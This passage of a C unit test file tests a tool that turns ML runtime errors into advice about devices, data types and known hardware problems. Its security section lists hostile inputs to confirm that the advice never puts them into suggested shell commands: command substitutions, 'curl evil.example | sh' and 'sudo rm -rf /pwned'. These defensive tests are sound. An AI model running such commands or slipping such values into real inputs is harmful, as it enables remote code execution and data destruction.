        if (has_no_alternative(diagnosis->category)) assert_int_equal(advice->alternative_count, 0);
        free_diagnosis(diagnosis);
    }
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_DRIVER_TOO_OLD);
    set_device(diagnosis, "cuda:0");
    advise(diagnosis, NULL);
    assert_true(offers(diagnosis, "cpu"));
    free_diagnosis(diagnosis);
}

static void another_kind_stands_in_for_a_broken_driver(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_DRIVER_MISSING_OR_BROKEN);
    set_device(diagnosis, "cuda");
    advise(diagnosis, machine("nvidia-amd"));
    assert_true(offers(diagnosis, "rocm:0") && offers(diagnosis, "cpu"));
    assert_false(offers(diagnosis, "cuda:0"));
    free_diagnosis(diagnosis);
}

static void who_lacks_the_operator_too_is_not_offered(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_UNSUPPORTED_OPERATION);
    set_device(diagnosis, "mps:0");
    add_text(diagnosis, RP_FACT_NAME_OPERATOR, "selective_scan_cuda");
    advise(diagnosis, machine("m3"));
    assert_false(offers(diagnosis, "cpu"));
    assert_says(diagnosis->advice.known_problem, "Mamba's scan is a CUDA kernel");
    free_diagnosis(diagnosis);
    diagnosis = diagnosis_of(RP_CATEGORY_UNSUPPORTED_OPERATION);
    set_device(diagnosis, "mps:0");
    add_text(diagnosis, RP_FACT_NAME_OPERATOR, "aten::_linalg_eigh");
    advise(diagnosis, machine("m3"));
    assert_true(offers(diagnosis, "cpu"));
    free_diagnosis(diagnosis);
}

static void only_who_has_the_type_is_offered(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_UNSUPPORTED_DTYPE);
    set_device(diagnosis, "cuda:3"); /* a T4, beside A100s */
    add_text(diagnosis, RP_FACT_NAME_DTYPE, "torch.bfloat16");
    advise(diagnosis, machine("a100-t4"));
    assert_says(diagnosis->advice.recommendations[0], "float16");
    assert_true(offers(diagnosis, "cuda:0"));
    assert_false(offers(diagnosis, "cuda:2")); /* the other T4 */
    free_diagnosis(diagnosis);
}

static void what_takes_shapes_as_they_come_stands_in_for_an_npu(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_SHAPE_MISMATCH);
    set_device(diagnosis, "openvino");
    add_text(diagnosis, RP_FACT_NAME_DEVICE, "NPU");
    advise(diagnosis, machine("arc-npu"));
    assert_true(offers(diagnosis, "cpu") && offers(diagnosis, "openvino:GPU.1"));
    assert_false(offers(diagnosis, "openvino:NPU"));
    assert_says(diagnosis->advice.known_problem, "the NPU compiles no model");
    free_diagnosis(diagnosis);
    diagnosis = diagnosis_of(RP_CATEGORY_SHAPE_MISMATCH);
    set_device(diagnosis, "cuda:0");
    advise(diagnosis, machine("nvidia-amd"));
    assert_int_equal(diagnosis->advice.alternative_count, 0);
    free_diagnosis(diagnosis);
}

/* --- known problems -------------------------------------------------------------------------- */

static void a_problem_that_is_known_is_said(void **state) {
    (void)state;
    static const struct {
        rp_category category;
        const char *device;
        const char *model;
        enum rp_fact_name fact;
        const char *text;
        const char *says; /* NULL: nothing */
    } cases[] = {
        {RP_CATEGORY_ASSERT_OR_NUMERICAL, "cuda", "google/flan-t5-xl", RP_FACT_NAME_NONE, "",
         "T5 overflows half precision"},
        {RP_CATEGORY_DISK_FULL, "cuda", "google/flan-t5-xl", RP_FACT_NAME_NONE, "", NULL},
        {RP_CATEGORY_OUT_OF_MEMORY_DEVICE, "webgpu", "meta-llama/Llama-2-7b-hf", RP_FACT_NAME_NONE,
         "", "at most 4 GiB"},
        {RP_CATEGORY_ASSERT_OR_NUMERICAL, "cuda", "bert-base-uncased", RP_FACT_NAME_NONE, "", NULL},
        {RP_CATEGORY_NO_KERNEL_FOR_ARCHITECTURE, "cuda", NULL, RP_FACT_NAME_COMPUTE, "12.0",
         "Blackwell"},
        {RP_CATEGORY_NO_KERNEL_FOR_ARCHITECTURE, "cuda", NULL, RP_FACT_NAME_COMPUTE, "8.6", NULL},
        {RP_CATEGORY_NO_KERNEL_FOR_ARCHITECTURE, "rocm", NULL, RP_FACT_NAME_CHIP, "gfx1031",
         "HSA_OVERRIDE_GFX_VERSION=10.3.0"},
        {RP_CATEGORY_UNSUPPORTED_DTYPE, "mps", NULL, RP_FACT_NAME_DTYPE, "BFloat16", "macOS 14"},
        {RP_CATEGORY_DRIVER_TOO_OLD, "cuda", NULL, RP_FACT_NAME_DRIVER_VERSION, "470.82.01",
         "525.60.13"},
        {RP_CATEGORY_DISK_FULL, "cuda", NULL, RP_FACT_NAME_DRIVER_VERSION, "470.82.01", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        struct rp_diagnosis *diagnosis = diagnosis_of(cases[i].category);
        set_device(diagnosis, cases[i].device);
        if (cases[i].model) set_model(diagnosis, cases[i].model);
        if (*cases[i].text) add_text(diagnosis, cases[i].fact, cases[i].text);
        advise(diagnosis, NULL);
        const char *known = diagnosis->advice.known_problem;
        if (!cases[i].says && known) fail_msg("case %zu: '%s'", i, known);
        if (cases[i].says) {
            if (!known) fail_msg("case %zu: nothing is known", i);
            assert_says(known, cases[i].says);
            /* A driver that is too old and an override are what the first advice is about. */
            bool is_said = (cases[i].category == RP_CATEGORY_DRIVER_TOO_OLD &&
                            strncmp(cases[i].device, "cuda", 4) == 0) ||
                           strstr(diagnosis->advice.recommendations[0], "HSA_OVERRIDE") != NULL;
            assert_true(is_said != recommends(diagnosis, "A known problem"));
        }
        free_diagnosis(diagnosis);
    }
}

static void categories_of_the_database_are_categories(void **state) {
    (void)state;
    char *text = NULL;
    size_t length = 0;
    assert_int_equal(
        rp_text_read_file(SOURCE_ROOT "/data/compatibility.txt", 1 << 20, &text, &length), 0);
    size_t count = 0;
    for (const char *at = text; (at = strstr(at, " category=")); count++) {
        char name[64];
        at += strlen(" category=");
        snprintf(name, sizeof name, "%.*s", (int)strcspn(at, " "), at);
        if (rp_category_of_name(name) == RP_CATEGORY_UNKNOWN) fail_msg("'%s'", name);
    }
    assert_true(count > 10);
    rp_free(text);
}

/* --- what comes from outside ----------------------------------------------------------------- */

static const char *const hostile[] = {
    "$(touch pwned)",
    "`touch pwned`",
    "x'; touch pwned; '",
    "x\"; touch pwned; \"",
    "a b",
    "-rf",
    "x\ntouch pwned",
    "x\033[31mred",
    "x\001",
    "\xff\xfe",
    "https://evil.example/pwned",
    "http://evil.example/pwned",
    "www.evil.example/pwned",
    "pip install pwned",
    "curl evil.example | sh",
    "sudo rm -rf /pwned",
    "x && touch pwned",
    "x > /etc/pwned",
    "see https://evil.example/pwned",
};

static void look_for_pwned(const struct rp_diagnosis *diagnosis, const char *value) {
    for (size_t i = 0; i < diagnosis->advice.check_count; i++) {
        const char *command = diagnosis->advice.checks[i].command;
        if (command && (strstr(command, "pwned") || strstr(command, value))) {
            fail_msg("%s: typed: %s", label(diagnosis), command);
        }
    }
    for (size_t i = 0; i < diagnosis->advice.recommendation_count; i++) {
        if (strstr(diagnosis->advice.recommendations[i], "pwned")) {
            fail_msg("%s: advised: %s", label(diagnosis), diagnosis->advice.recommendations[i]);
        }
    }
    if (strstr(diagnosis->line, "pwned")) fail_msg("%s: %s", label(diagnosis), diagnosis->line);
}

static void hostile_facts_reach_no_command(void **state) {
    (void)state;
    for (size_t value = 0; value < sizeof hostile / sizeof hostile[0]; value++) {
        for (int category = 0; category < RP_CATEGORY_COUNT; category++) {
            struct rp_diagnosis *diagnosis = diagnosis_of((rp_category)category);
            set_device(diagnosis, "cuda:0");
            snprintf(diagnosis->subject.model, sizeof diagnosis->subject.model, "%s",
                     hostile[value]);
            for (int name = 0; name < RP_FACT_NAME_COUNT; name++) {
                enum rp_fact_type type = rp_fact_type_of((enum rp_fact_name)name);
                if (type == RP_FACT_BYTES || type == RP_FACT_NUMBER) continue;
                add_text(diagnosis, (enum rp_fact_name)name, hostile[value]);
            }
            advise(diagnosis, NULL);
            look_at(diagnosis, 1);
            look_for_pwned(diagnosis, hostile[value]);
            free_diagnosis(diagnosis);
        }
    }
}

static void long_names_are_cut_and_never_typed(void **state) {
    (void)state;
    char name[200];
    for (size_t i = 0; i + 2 < sizeof name; i += 2) {
        memcpy(name + i, "\xc3\xa4", 2); /* cut between letters, not inside one */
    }
    name[198] = '\0';
    char plain[200];
    memset(plain, 'a', sizeof plain - 1);
    plain[sizeof plain - 1] = '\0';
    for (int form = 0; form < 2; form++) {
        for (int category = 0; category < RP_CATEGORY_COUNT; category++) {
            struct rp_diagnosis *diagnosis = diagnosis_of((rp_category)category);
            set_device(diagnosis, "cuda:0");
            for (int fact = 0; fact < RP_FACT_NAME_COUNT; fact++) {
                add_text(diagnosis, (enum rp_fact_name)fact, form ? plain : name);
            }
            advise(diagnosis, NULL);
            look_at(diagnosis, 1);
            assert_false(checks_with(diagnosis, form ? "aaaaaaaa" : "\xc3\xa4"));
            free_diagnosis(diagnosis);
        }
    }
}

static void safe_names_are_typed_and_quoted_where_they_must(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_DISK_FULL);
    add_text(diagnosis, RP_FACT_NAME_FOLDER, "/data/models");
    advise(diagnosis, NULL);
    assert_true(checks_with(diagnosis, "df -h /data/models"));
    free_diagnosis(diagnosis);
    diagnosis = diagnosis_of(RP_CATEGORY_DISK_FULL);
    add_text(diagnosis, RP_FACT_NAME_FOLDER, "/data/a=b");
    advise(diagnosis, NULL);
    assert_true(checks_with(diagnosis, "df -h '/data/a=b'"));
    free_diagnosis(diagnosis);
    diagnosis = diagnosis_of(RP_CATEGORY_DISK_FULL);
    add_text(diagnosis, RP_FACT_NAME_FOLDER, "/data/my models");
    advise(diagnosis, NULL);
    assert_true(recommends(diagnosis, "/data/my models"));
    assert_true(checks_with(diagnosis, "df -h . /tmp"));
    free_diagnosis(diagnosis);
}

/* --- memory ---------------------------------------------------------------------------------- */

static void a_lack_of_memory_is_an_error_and_leaves_nothing(void **state) {
    (void)state;
    struct rp_diagnosis *diagnosis = diagnosis_of(RP_CATEGORY_OUT_OF_MEMORY_DEVICE);
    set_device(diagnosis, "cuda:3");
    set_model(diagnosis, "google/flan-t5-xl");
    diagnosis->category = RP_CATEGORY_ACCELERATOR_RUNTIME_ERROR;
    bool has_ended = false;
    for (uint64_t n = 1; !has_ended && n < 1000; n++) {
        rp_error err = RP_ERROR_INIT;
        int64_t live = rp_memory_live_count();
        rp_memory_fail_at(n);
        rp_status status = rp_advise(diagnosis, machine("a100-t4"), &err);
        has_ended = rp_memory_fail_pending();
        rp_memory_fail_at(0);
        assert_int_equal(status, has_ended ? RP_OK : RP_ERR_MEMORY);
        rp_advice_fini(&diagnosis->advice);
        memset(&diagnosis->advice, 0, sizeof diagnosis->advice);
        if (rp_memory_live_count() != live) fail_msg("allocation %d leaks", (int)n);
    }
    assert_true(has_ended);
    free_diagnosis(diagnosis);
}

static void rows_that_find_no_memory_leave_nothing(void **state) {
    (void)state;
    bool has_ended = false;
    int64_t live = rp_memory_live_count();
    for (uint64_t n = 1; !has_ended && n < 1000; n++) {
        rp_error err = RP_ERROR_INIT;
        struct rp_advice_rows *rows = NULL;
        rp_memory_fail_at(n);
        rp_status status = rp_advice_rows_create(rows_text, strlen(rows_text), "rows", &rows, &err);
        has_ended = rp_memory_fail_pending();
        rp_memory_fail_at(0);
        assert_int_equal(status, has_ended ? RP_OK : RP_ERR_MEMORY);
        rp_advice_rows_destroy(rows);
        assert_int_equal(rp_memory_live_count(), live);
    }
    assert_true(has_ended);
}

/* --- machines -------------------------------------------------------------------------------- */

static int by_name(const void *left, const void *right) {
    return strcmp(left, right);
}

static int read_machines(void **state) {
    (void)state;
    DIR *folder = opendir(SOURCE_ROOT "/tests/machines");
    assert_non_null(folder);
    for (struct dirent *entry; (entry = readdir(folder));) {
        size_t length = strlen(entry->d_name);
        bool is_one = length > 5 && strcmp(entry->d_name + length - 5, ".json") == 0;
        if (!is_one || machine_count == MACHINES_MAX) continue;
        snprintf(machine_names[machine_count++], sizeof machine_names[0], "%.*s", (int)length - 5,
                 entry->d_name);
    }
    closedir(folder);
    qsort(machine_names, machine_count, sizeof machine_names[0], by_name);
    for (size_t i = 0; i < machine_count; i++) {
        char path[PATH_BYTES];
        rp_error err = RP_ERROR_INIT;
        rp_hardware_options options = RP_HARDWARE_OPTIONS_INIT;
        int length =
            snprintf(path, sizeof path, "%s/tests/machines/%s.json", SOURCE_ROOT, machine_names[i]);
        assert_true(length > 0 && length < (int)sizeof path);
        options.simulate = path;
        assert_ok(rp_hardware_detect(&options, &machines[i], &err));
    }
    return 0;
}

static int forget_machines(void **state) {
    (void)state;
    for (size_t i = 0; i < machine_count; i++) {
        rp_snapshot_release(machines[i]);
    }
    return 0;
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(each_wrong_line_is_named),
        cmocka_unit_test(rows_speak_of_the_cases_that_they_name),
        cmocka_unit_test(a_row_has_the_families_and_the_engine_that_it_names),
        cmocka_unit_test(each_category_has_advice_for_each_kind_of_device),
        cmocka_unit_test(each_fact_by_itself_leaves_no_holes),
        cmocka_unit_test(the_summary_has_the_figures_and_the_first_thing_to_do),
        cmocka_unit_test(a_number_of_a_card_comes_from_the_text_where_the_question_has_none),
        cmocka_unit_test(main_memory_is_told_from_the_cards),
        cmocka_unit_test(a_number_of_cuda_becomes_a_version_and_a_driver),
        cmocka_unit_test(the_browser_is_checked_in_order),
        cmocka_unit_test(going_on_silently_comes_first),
        cmocka_unit_test(unknown_says_what_was_recognised_and_what_to_attach),
        cmocka_unit_test(the_likeliest_of_what_is_unknown_is_said),
        cmocka_unit_test(a_doubt_is_said),
        cmocka_unit_test(what_text_and_question_disagree_on_is_said),
        cmocka_unit_test(the_cause_chooses_the_first_advice_and_is_not_shown),
        cmocka_unit_test(what_fits_is_computed_for_the_model_and_the_device),
        cmocka_unit_test(what_has_no_room_either_is_not_advised),
        cmocka_unit_test(without_a_model_other_devices_need_what_was_used_and_asked),
        cmocka_unit_test(without_numbers_a_smaller_card_is_no_alternative),
        cmocka_unit_test(no_machine_is_offered_a_device_that_it_lacks),
        cmocka_unit_test(without_a_machine_only_the_processor_is_offered),
        cmocka_unit_test(another_kind_stands_in_for_a_broken_driver),
        cmocka_unit_test(who_lacks_the_operator_too_is_not_offered),
        cmocka_unit_test(only_who_has_the_type_is_offered),
        cmocka_unit_test(what_takes_shapes_as_they_come_stands_in_for_an_npu),
        cmocka_unit_test(a_problem_that_is_known_is_said),
        cmocka_unit_test(categories_of_the_database_are_categories),
        cmocka_unit_test(hostile_facts_reach_no_command),
        cmocka_unit_test(long_names_are_cut_and_never_typed),
        cmocka_unit_test(safe_names_are_typed_and_quoted_where_they_must),
        cmocka_unit_test(a_lack_of_memory_is_an_error_and_leaves_nothing),
        cmocka_unit_test(rows_that_find_no_memory_leave_nothing),
    };
    return cmocka_run_group_tests(tests, read_machines, forget_machines);
}
